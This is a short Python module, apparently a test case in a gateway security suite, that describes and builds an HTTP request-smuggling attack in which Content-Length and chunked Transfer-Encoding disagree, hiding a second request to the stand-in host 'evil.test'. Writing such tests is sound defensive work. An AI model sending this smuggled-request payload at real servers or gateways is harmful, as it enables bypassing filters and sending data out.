"""A request in a request: a length for one reader, chunks for the other.

`Content-Length` covers the second request, `Transfer-Encoding: chunked` ends before it. A
gateway that goes by the length passes it on as a body; the server, going by the chunks, answers
it as a request of its own.

Not covered: the same difference inside TLS.
"""

ATTACK = {
    "title": "Smuggled request: length against chunks",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-444", "R062", "RFC 9112 section 6.3"],
    "arrives": [{"what": "request", "path": "/smuggled"}],
    "stopped": [{"reason": ["malformed-request"], "entry": ["transparent"]}],
}


def attempt(kit):
    body = "0\r\n\r\n" + kit.get("/smuggled", "evil.test")
    head = f"Host: allowed.test\r\nContent-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n"
    kit.talk("allowed.test", 80, f"POST /upload HTTP/1.1\r\n{head}{body}")
